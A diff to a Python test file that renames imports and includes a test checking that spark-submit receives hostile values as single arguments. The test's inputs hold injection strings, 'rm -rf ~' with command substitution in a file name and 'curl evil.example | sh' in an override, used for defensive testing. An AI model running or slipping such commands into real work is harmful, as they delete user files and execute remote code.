@@ -13,8 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from tasks.errors import RetuneError
-from tasks.layout import Layout, journal_path
+from tasks.core import Layout, RetuneError, journal_path
 from tests.conftest import ROOT
 from tests.integration.test_deploy_scripts import DOCKER, mysql_admin, mysql_root
 
@@ -97,11 +96,11 @@ def test_shell_scripts_never_eval_input() -> None:
 def test_spark_submit_gets_hostile_values_as_single_arguments(tmp_path: Path) -> None:
     from retune.hooks import RetuneSparkSubmitHook
 
-    from tasks.spark_commands import etl_args, job_file
+    from tasks.spark import job_file, stage_args
 
     hostile_spec = str(tmp_path / "a spec; rm -rf ~ `id` $(id).yaml")
     overrides = {"gpu": "off; curl evil.example | sh"}
-    args = etl_args(hostile_spec, "2026-11-21", str(tmp_path), overrides)
+    args = stage_args(hostile_spec, "2026-11-21", str(tmp_path), overrides)
     hook = RetuneSparkSubmitHook(application_args=args, name="retune-etl-x-2026-11-21")
     command = hook._build_spark_submit_command(job_file("etl"))
     assert isinstance(command, list)
